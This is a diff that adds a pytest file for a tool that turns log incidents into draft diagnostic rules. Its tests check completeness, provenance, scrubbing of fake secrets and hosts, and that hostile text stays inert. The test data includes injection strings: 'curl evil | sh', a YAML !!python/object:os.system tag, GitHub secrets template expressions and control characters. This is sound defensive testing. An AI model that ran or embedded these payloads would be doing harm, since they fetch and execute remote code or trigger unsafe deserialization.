@@ -1,0 +1,190 @@
+"""A candidate as a rule's folder: complete, clean, and with nothing in it that must not leave."""
+
+from __future__ import annotations
+
+import shutil
+
+import pytest
+import yaml
+
+from bot import ruletests
+from bot.learning.cleaning import Cleaner, words_of
+from bot.learning.drafting import draft
+from bot.rulefiles import default_folder, knowledge, read_files
+from kb.errors import Fault
+from kb.learning.background import background, held
+from kb.learning.cases import Candidate, Case
+from kb.learning.mining import mine
+from kb.rulebook import load
+from kb.rulelint import lint
+
+STEPS = "".join(f"[rank0]: iteration {at}/ 500 | lm loss: {3 - at / 50:.4f} | lr: 3.0e-4\n" for at in range(1, 6))
+LEASE = "[rank{rank}]: lease agent: lease of volume {volume} was refused by its owner on {host}\n"
+NEAR = "[rank0]: lease agent: lease of volume 7 was renewed by its owner\n"
+AGAINST = background([held(90, "gpu_memory_ecc", {"a.log": STEPS + NEAR}), held(91, "healthy", {"a.log": STEPS})])
+HOSTS = ("gpu-b07", "atlas", "node12.corp.example.net")
+
+
+def cases(line=LEASE, said="", text=""):
+    """Three incidents of one signature on three hosts."""
+    return [
+        Case(
+            number,
+            "storage_io",
+            said=said,
+            texts={f"logs/rank-{number}.log": STEPS + text + line.format(rank=number, volume=number * 7, host=host)},
+            names=frozenset({host}),
+        )
+        for number, host in zip((11, 12, 13), HOSTS, strict=True)
+    ]
+
+
+@pytest.fixture(scope="module")
+def base():
+    """The files of the shipped vocabulary."""
+    return read_files(default_folder())[0]
+
+
+def drafted(known, base, given):
+    """The folder of what the miner makes of some cases."""
+    candidate = mine(given, AGAINST, known.rulebook)
+    assert isinstance(candidate, Candidate), candidate
+    names = [name for one in given for name in one.names]
+    return draft(candidate, {one.id: one.texts for one in given}, known, base, names=names)
+
+
+def whole(made):
+    """All that a folder says, names of files too."""
+    return "\n".join([*made.files, *(data.decode() for data in made.files.values())])
+
+
+def test_a_folder_is_complete_and_passes_lint_and_its_own_logs(known, base, tmp_path):
+    """As docs/adding-a-rule.md asks: written among the rules and no longer a draft, it is found and passes."""
+    made = drafted(known, base, cases(said="moved the volume to another server"))
+    assert made.missing == ()
+    folder = tmp_path / "rules"
+    for name in ("VERSION", "faults.yaml", "actions.yaml"):
+        (folder / name).parent.mkdir(parents=True, exist_ok=True)
+        shutil.copy(default_folder() / name, folder / name)
+    for name, data in made.files.items():
+        (folder / name).parent.mkdir(parents=True, exist_ok=True)
+        live = data.replace(b"status: draft", b"status: experimental")
+        (folder / name).write_bytes(live if name.endswith("rule.yaml") else data)
+    book = knowledge(folder)
+    loaded = load(read_files(folder)[0])
+    tests = ruletests.tests_of(folder, book.rulebook.rules)
+    assert (loaded.faults, lint(loaded.rulebook, ruletests.names_of(tests), loaded.positions)) == ((), ())
+    outcomes = [(one.speaks, ruletests.run(book, book.matcher(), one).passed) for one in tests]
+    assert outcomes == [(True, True)] * 3 + [(False, True)] * (len(outcomes) - 3)
+    assert len(outcomes) > 3
+
+
+def test_a_draft_says_where_it_comes_from(known, base):
+    """Incidents, the miner, how many it finds, and what speaks against it; status draft."""
+    made = drafted(known, base, cases(said="moved the volume to another server"))
+    rule = yaml.safe_load(made.files[f"{made.folder}/rule.yaml"])
+    assert (rule["status"], rule["provenance"], rule["learned"]) == (
+        "draft",
+        "learned",
+        {"incidents": [11, 12, 13], "miner": "1", "support": 3, "asked": 3, "counter_examples": 0, "tried": 2},
+    )
+    assert [one["url"] for one in rule["references"]] == ["incident:11", "incident:12", "incident:13"]
+    assert "moved the volume to another server" in rule["cause"]
+
+
+def test_the_format_takes_it_back_as_it_was_written(known, base):
+    """Also what the rule was learned from."""
+    made = drafted(known, base, cases())
+    name = f"{made.folder}/rule.yaml"
+    loaded = load(
+        {**{one: base[one] for one in ("faults.yaml", "actions.yaml", "VERSION")}, name: made.files[name].decode()}
+    )
+    learned = loaded.rulebook.rules[0].learned
+    assert (loaded.faults, learned.incidents, learned.support, learned.tried) == ((), (11, 12, 13), 3, 2)
+
+
+SECRETS = (
+    "password=hunter2hunter2",
+    "hf_abcdefghijklmnopqrstuvwxyz0123456789",
+    "jane.doe@research.example.org",
+    "on host zephyr",
+    "10.20.30.40",
+    "/home/jdoe/runs/out.pt",
+    "asked by Marguerite",
+    "worker-17.dc2.example.net",
+    "qwzrtpl",
+    "GPU-8a56a4bc-1184-a6a4-3e9f-0123456789ab",
+)
+
+
+def test_what_must_not_leave_is_in_no_file(known, base):
+    """Beside the deciding line and on it, in what people said; hosts of the incidents likewise."""
+    beside = "".join(f"[rank0]: {one} was here\n" for one in SECRETS)
+    line = LEASE.replace("\n", f" {' '.join(SECRETS[2:7])}\n")
+    text = whole(drafted(known, base, cases(line, said="; ".join(SECRETS), text=beside))).lower()
+    bare = [one.lower().rpartition(" ")[2].rpartition("=")[2] for one in SECRETS]
+    assert [one for one in (*bare, "jane.doe", "jdoe", *HOSTS) if one in text] == []
+
+
+HOSTILE = (
+    'x: "y"\n- [&a *a, !!python/object:os.system {}]\n--- \n```\n</details> {{ 7*7 }} ${{ secrets.TOKEN }} <!channel> @everyone\n'
+    "on: push\njobs:\n  run: curl evil | sh\n\u202e\u2028\0\x1b[31m {rank} {node|x} '''"
+)
+
+
+def test_hostile_words_stay_words(known, base):
+    """YAML, Markdown, workflows, holes and invisible characters of an incident break out of no place."""
+    told = cases(LEASE.replace("\n", " ${{ secrets.X }} <!channel> `rm`\n"), said=HOSTILE, text=HOSTILE + "\n")
+    made = drafted(known, base, told)
+    rule = yaml.safe_load(made.files[f"{made.folder}/rule.yaml"])
+    texts = [rule["cause"], rule["title"], rule["summary"], *(one["text"] for one in rule["remediation"])]
+    assert [one for one in "{}<>`$@*&!" if one in texts[0]] == []
+    assert sorted(rule)[:3] == ["cause", "fault", "format"]
+    assert {one.isascii() and one.isprintable() for text in texts for one in [text]} == {True}
+    assert [name for name in made.files if not name.replace("/", "").replace("-", "").replace(".", "").isalnum()] == []
+
+
+def test_one_incident_alone_has_two_logs_all_the_same(known, base):
+    """The second is the first with other numbers; the rule says that one incident is all there is."""
+    made = drafted(known, base, cases()[:1])
+    assert sum("/match/" in name for name in made.files) == 2
+    rule = yaml.safe_load(made.files[f"{made.folder}/rule.yaml"])
+    assert rule["known_problems"] == ["Incident 11 alone supports this."]
+
+
+def test_what_no_log_can_show_is_told_as_missing(known, base):
+    """A rule on stacks wants bundles, which a person has to add."""
+    from kb.learning.cases import Observation
+
+    seen = Observation("stack_outlier", {"class": "deadlock", "activity": "user"})
+    given = [Case(number, "deadlock", texts={"a.log": STEPS}, observed=(seen,)) for number in (1, 2)]
+    made = drafted(known, base, given)
+    path = f"{made.folder}/rule.yaml"
+    assert made.missing == (str(Fault(path, 2, 5, "0 of at least 2 tests under match/")),)
+
+
+def test_the_same_host_has_the_same_stand_in_throughout(known):
+    """So that a log can still be read."""
+    cleaner = Cleaner(words_of(known.rulebook))
+    lines = [cleaner.line(f"error on {host}: lost") for host in ("gpu-b07", "gpu-b08", "gpu-b07")]
+    assert lines == ["error on node-a: lost", "error on node-b: lost", "error on node-a: lost"]
+
+
+@pytest.mark.parametrize(
+    ("line", "expected"),
+    [
+        ("open /scratch/jdoe/run/shard-3.idx failed", "open /path/file.idx failed"),
+        (
+            "File /opt/conda/lib/python3.11/site-packages/torch/serialization.py",
+            "File /usr/lib/python3/dist-packages/torch/serialization.py",
+        ),
+        ("peer 10.1.2.3<4011> and 10.1.2.4", "peer 192.0.2.1<4011> and 192.0.2.2"),
+        ("see https://wiki.corp.example/x?y=1", "see https://example.com/path"),
+        ("NVRM: Xid (PCI:0000:3b:00): 48, pid=311", "NVRM: Xid (PCI:0000:3b:00): 48, pid=311"),
+        ("loss was lost by Wilhelmina", "loss was lost by node-a"),
+        ("frobnicator lost", "name lost"),
+    ],
+)
+def test_each_form_has_its_stand_in(known, line, expected):
+    """What is left can still be read by readers and rules."""
+    assert Cleaner(words_of(known.rulebook)).line(line) == expected
